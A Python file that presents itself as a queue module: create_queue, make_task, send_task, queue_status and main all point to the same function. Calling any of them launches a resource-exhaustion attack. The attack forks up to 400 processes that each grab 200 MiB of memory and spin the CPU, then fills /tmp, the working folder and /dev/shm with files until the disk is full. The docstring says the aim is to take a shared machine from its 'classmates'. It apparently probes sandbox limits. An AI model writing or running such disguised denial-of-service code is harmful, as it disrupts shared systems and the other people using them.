"""Tries to take the machine from its classmates, in many processes each under any per-process
limit: as many processes as it can start, memory in every one of them, files until the disk is
full in every folder it can write, and CPU in all of them. It reports what it managed."""
import os
import time

report = {}


def _fill(folder, tag):
    written = 0
    try:
        for i in range(100000):
            with open(os.path.join(folder, f"{tag}-{i}"), "wb") as fh:
                fh.write(b"x" * (4 << 20))
            written += 4 << 20
    except OSError:
        pass
    return written


def _hog():
    children = 0
    release_r, release_w = os.pipe()
    for _ in range(400):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            os.close(release_w)
            os.read(release_r, 1)  # all started first, then all hog at once
            try:
                block = bytearray(200 << 20)  # 200 MiB each, touched
                for i in range(0, len(block), 4096):
                    block[i] = 1
            except MemoryError:
                pass
            end = time.monotonic() + 30
            while time.monotonic() < end:
                pass
            os._exit(0)
        children += 1
    report["children"] = children
    print(f"children={children}", flush=True)
    os.close(release_w)
    report["tmp"] = _fill("/tmp", "t")
    report["cwd"] = _fill(os.getcwd(), "c")
    report["shm"] = _fill("/dev/shm", "s") if os.path.isdir("/dev/shm") else 0


def create_queue(sqs, queue_name, visibility_timeout=30, retention_period=86400):
    _hog()
    raise RuntimeError(repr(report))


make_task = send_task = queue_status = main = create_queue
